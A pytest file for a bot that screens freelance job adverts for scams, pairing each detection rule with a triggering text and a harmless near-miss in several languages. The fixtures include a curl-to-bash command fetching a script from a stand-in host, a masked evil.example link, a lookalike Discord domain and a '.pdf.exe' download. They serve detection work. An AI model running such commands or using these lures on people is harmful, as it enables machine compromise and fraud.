# ruff: noqa: E501 - each text is one line, as it is pasted
"""Each rule, by what it must notice and by its nearest neighbour that it must leave alone."""

from dataclasses import replace
from math import ceil

import pytest

from bot.gigs.screening import load_rules, read_evidence, screen, weigh
from bot.gigs.tally import Scale, Sign, share

TABLE = [
    ("pay_to_work", "To start you must pay a refundable onboarding fee of 40 USD.", "We pay you a deposit of 30 % up front."),
    ("pay_to_work", "Vor Beginn überweisen Sie bitte die Schulungsgebühr von 49 €.", "Wir zahlen vorab 30 % Anzahlung."),
    ("pay_to_work", "Se debe pagar una cuota de inscripción de 30 € antes de empezar.", "Nuestros clientes pagan una cuota; predecir bajas."),
    ("pay_to_work", "登録料3,000円をお振込みください。初回報酬から返金します。", "登録料の入金データを分析してください。"),
    ("gift_cards", "Please buy two Steam cards and send me photos of the codes.", "Forecast gift card breakage for a retailer."),
    ("forward_money", "Customers pay into your account, you keep 5 % and forward the rest.", "Model how customers pay into accounts."),
    ("forward_money", "We mail you a cashier's check; deposit it and wire the remainder.", "Detect altered amounts on scanned cheques."),
    ("forward_money", "Le paiement arrive sur votre compte, vous gardez 8 % et vous transférez le reste.", "Analyse des paiements d'une boutique."),
    ("forward_money", "You receive parcels at your home, print a new label and forward them.", "Which depots lose parcels? Scan events in Oracle."),
    ("run_this_code", "Before the interview, clone our repo and run it on your machine.", "Our repo is public, have a look if you like."),
    ("run_this_code", "Run this first: curl -s https://a.example/x.sh | bash", "Our build uses curl and bash, documented."),
    ("run_this_code", "Antes de la entrevista debe clonar el repositorio y ejecutar el servidor.", "Antes de la entrevista hablamos 20 minutos."),
    ("run_this_code", "Turn off your antivirus before opening the project.", "Compare how often two antivirus products miss a file; report and Python notebook."),
    ("secrets", "Send us a photo of your passport and your bank login.", "OCR for photographed passports, synthetic data."),
    ("secrets", "Kirim foto KTP dan selfie memegang KTP untuk verifikasi.", "Laporan penjualan bulanan untuk toko buku."),
    ("secrets", "Пришлите скан паспорта и код из смс для верификации.", "Нужен отчёт по продажам, договор."),
    ("account_rent", "We rent verified Upwork accounts, 100 USD a month.", "Rental platform: which accounts churn?"),
    ("account_rent", "Huur je LinkedIn account aan ons uit, 50 euro per maand.", "Analyse van de huur van fietsen."),
    ("laptop_farm", "Keep our laptops plugged in at your home, 24/7.", "You get a company laptop and return it afterwards."),
    ("wallet_test", "Connect your wallet and sign the test transaction.", "Cohorts of users who connect their wallet."),
    ("fake_escrow", "The escrow releases the money once you pay a fee of 60 USD.", "Escrow ledger reconciliation for a notary."),
    ("insider_data", "I pay $50 per customer list from your employer's internal CRM.", "Dedupe the customer list in our CRM."),
    ("login_link", "Log in with your Google account to see the brief.", "Users log in with Google; where do they drop out?"),
    ("text_interview", "The interview is text only.", "The interview takes thirty minutes by video."),
    ("off_platform", "Contact me on Telegram.", "Build a Telegram bot for alerts."),
    ("off_platform", "Schreib mir auf WhatsApp.", "WhatsApp-Chatverläufe auswerten."),
    ("off_platform", "Пишите в телеграм @anna.", "Сделать телеграм-бота для библиотеки."),
    ("off_platform", "Message me on WhatsApp for the brief.", "Message me on WhatsApp, or here if you like."),
    ("off_platform", "Don't reply here, I do not use Discord.", "Reply here, please."),
    ("easy_task", "Like videos and follow accounts, ten minutes a day.", "Topic model on video comments."),
    ("promised_money", "Guaranteed income of 300 a day.", "The income of nurses, a survey."),
    ("no_skill", "No experience needed.", "Ten years of experience with Spark."),
    ("no_meeting", "You are hired without an interview.", "We interview twice."),
    ("urgency", "Urgent, start today.", "Start in March, no rush."),
    ("unpaid", "There is an unpaid trial week.", "The trial week is paid."),
    ("short_link", "Brief: https://bit.ly/3abc", "Links like bit.ly hide where they lead."),
    ("odd_link", "Brief: http://93.184.216.34/x", "Server on http://127.0.0.1:8000"),
    ("lookalike_link", "Log in at https://dlscord-gifts.com", "See https://discord.com/developers"),
    ("lookalike_link", "See [github.com/org/brief](https://evil.example/x)", "See [github.com/org/brief](https://github.com/org/brief)"),
    ("download_link", "https://files.example/Brief.pdf.exe", "https://files.example/brief.pdf"),
    ("invite_link", "https://discord.gg/abc", "https://discord.com/developers"),
]  # fmt: skip
FROM_OUTSIDE = {
    "no_budget": {"budget_named": False},
    "repeat": {"repeat": "open"},
    "repeat_refused": {"repeat": "refused"},
    "similar": {"similar": "open"},
    "similar_refused": {"similar": "refused"},
    "new_account": {"account_days": 2},
    "new_member": {"member_days": 0},
    "far_pay": {"pay_ratio": 6.0},
}
PLAIN = "Forecast demand for a bakery chain in Python. 80 €/h."


@pytest.mark.parametrize(("rule", "fires", "_quiet"), TABLE, ids=range(len(TABLE)))
def test_a_rule_notices_what_it_is_for(rule: str, fires: str, _quiet: str) -> None:
    assert rule in _rules(fires)


@pytest.mark.parametrize(("rule", "_fires", "quiet"), TABLE, ids=range(len(TABLE)))
def test_a_rule_leaves_its_neighbour_alone(rule: str, _fires: str, quiet: str) -> None:
    assert rule not in _rules(quiet)


@pytest.mark.parametrize(("rule", "known"), FROM_OUTSIDE.items())
def test_what_is_known_besides_the_text_counts(rule: str, known: dict[str, object]) -> None:
    assert _rules(PLAIN) == set()
    assert {finding.rule for finding in screen(PLAIN, **known).findings} == {rule}  # type: ignore[arg-type]


def test_every_rule_is_in_a_table() -> None:
    elsewhere = {"disguised", "together", "phishing_link"}
    assert load_rules().rules.keys() == {rule for rule, _, _ in TABLE} | FROM_OUTSIDE.keys() | elsewhere


def test_rules_and_points_speak_of_ideas_that_have_words_and_every_word_serves() -> None:
    book = load_rules()
    tables = (book.lexicon.whole, book.lexicon.pairs, book.lexicon.begins, book.lexicon.ends)
    worded = {phrase.idea for table in tables for phrases in table.values() for phrase in phrases}
    wanted = [each for rule in book.rules.values() for each in (*rule.when, *rule.perhaps)]
    named = {idea for each in wanted for ideas in (*each.needs, each.lacks) for idea in ideas}
    named |= {sign.name for sign in book.scale.points if sign.kind == "idea"}
    assert named <= worded
    assert worded - named <= {"aside", "mask", "not", "not_after", "not_at_all"}


@pytest.mark.parametrize(
    "denied",
    [
        "We never ask you to pay a registration fee.",
        "You do not have to send us a photo of your passport.",
        "Wir verlangen keine Anmeldegebühr von dir.",
        "Nunca pedimos que pagues una cuota de inscripción.",
        "Please do not contact me on Telegram.",
    ],
)
def test_what_is_denied_is_no_finding(denied: str) -> None:
    assert screen(denied).verdict == "live", screen(denied).findings


def test_a_promise_that_begins_with_no_is_not_a_denial() -> None:
    text = "No experience needed, no interview, you just pay the registration fee of 20 USD."
    assert "pay_to_work" in _rules(text)


def test_ideas_that_share_a_sentence_say_more_than_the_same_ideas_apart() -> None:
    book = load_rules()
    together = read_evidence("You send the code.", book).signs
    apart = read_evidence("You decide. We send it. The code is ours.", book).signs
    assert Sign("both", "codes you") in together
    assert Sign("both", "codes you") not in apart
    assert Sign("both", "codes you") not in read_evidence("You never send the code.", book).signs


def test_where_no_rule_is_met_small_signs_must_weigh_more() -> None:
    book = load_rules()
    evidence = read_evidence("Your codes, your card, your account.", book)
    assert not evidence.met
    for points, verdict in ((book.queue, "live"), (book.queue + 1, "queue")):
        ideas = sorted(sign for sign in evidence.signs if sign.kind == "idea")[:4]
        scale = Scale(dict.fromkeys(ideas, ceil(25 * points / share(evidence.signs))))
        assert weigh(evidence, replace(book, scale=scale)).verdict == verdict


def test_small_signs_count_together_and_signs_of_work_count_against_them() -> None:
    text = "Your account, your login. Add us on the messenger. Hand the codes on."
    assert _weights(text)["together"] >= load_rules().queue
    work = text + " Python, dbt and a forecast model; the contract has two milestones, pay is by invoice."
    assert _weights(work).get("together", 0) < _weights(text)["together"]


def test_a_rule_weighs_less_in_a_text_that_is_plainly_about_work() -> None:
    fee = "You must pay a registration fee of $30. "
    work = fee + "That is what fake adverts say; we need a Python classifier, 4,000 labelled rows, a report."
    assert screen(work).score < screen(fee).score


def test_some_things_need_no_second_sign_unless_they_are_quoted() -> None:
    work = "Forecast demand in Python: 40,000 rows in Postgres, a dbt model, a notebook, a report. Contract, invoice. "
    fee = "You must pay a registration fee of $30 before you start."
    assert screen(work).verdict == "live"
    assert screen(work + fee).verdict != "live"
    assert screen(work + f'Fake adverts say: "{fee}"').verdict == "live"


def test_a_missing_budget_alone_changes_no_verdict() -> None:
    for text in (PLAIN, "Dashboards, contact me on Telegram.", "Simple dashboards in Excel."):
        assert screen(text, budget_named=False).verdict == screen(text).verdict


def _weights(text: str) -> dict[str, int]:
    return {finding.rule: finding.weight for finding in screen(text).findings}


def _rules(text: str) -> set[str]:
    return {finding.rule for finding in screen(text).findings}
